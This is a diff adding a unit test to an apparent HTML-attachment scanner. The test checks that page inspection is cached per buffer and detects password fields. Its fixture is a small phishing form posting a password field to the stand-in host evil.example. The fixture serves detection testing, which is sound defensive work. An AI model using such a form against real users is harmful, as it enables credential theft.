@@ -28,4 +28,13 @@ describe('HTML attachments', () => {
     expect(looksLikeHtml('png', 'image/png', Buffer.from(svg))).toBe(true);
     expect(looksLikeHtml('xml', 'application/xml', Buffer.from('<?xml version="1.0"?><invoice><total>5</total></invoice>'))).toBe(false);
   });
+
+  it('reads a page once per buffer, and each buffer for itself', () => {
+    const page = Buffer.from('<form action="https://evil.example/p"><input type="password"></form>');
+    const first = inspectHtml(page);
+    expect(inspectHtml(page)).toBe(first);
+    const other = inspectHtml(Buffer.from('<p>hello</p>'));
+    expect(other).not.toBe(first);
+    expect([first.password, other.password]).toEqual([true, false]);
+  });
 });
